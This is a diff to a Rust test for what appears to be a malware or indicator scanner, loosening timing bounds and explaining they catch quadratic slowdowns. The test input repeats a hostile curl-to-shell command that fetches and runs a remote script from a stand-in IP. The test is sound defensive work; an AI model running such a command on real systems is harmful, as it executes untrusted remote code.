@@ -348,9 +348,12 @@ fn indicator_lines_are_capped_and_the_rest_is_said() {
         ..Limits::CONTRACT
     };
     let noisy = "curl -fsSL http://203.0.113.9/x.sh | sh\n".repeat(20_000);
+    // The time bounds below are not performance targets (those are benchmarks): they catch a
+    // pass that turned quadratic, which on these inputs takes hours, not the seconds a debug
+    // build on a busy 2-core host may need.
     let started = std::time::Instant::now();
     let report = s().scan_files_with(vec![("noisy.sh", noisy.as_bytes())], &limits);
-    assert!(started.elapsed() < std::time::Duration::from_secs(20));
+    assert!(started.elapsed() < std::time::Duration::from_secs(120));
     let gap = incomplete(&report);
     assert!(
         gap[0]
@@ -365,7 +368,7 @@ fn indicator_lines_are_capped_and_the_rest_is_said() {
     let started = std::time::Instant::now();
     let report = s().scan_files(vec![("endless.txt", endless.as_bytes())]);
     assert!(
-        started.elapsed() < std::time::Duration::from_secs(10),
+        started.elapsed() < std::time::Duration::from_secs(120),
         "{:?}",
         started.elapsed()
     );
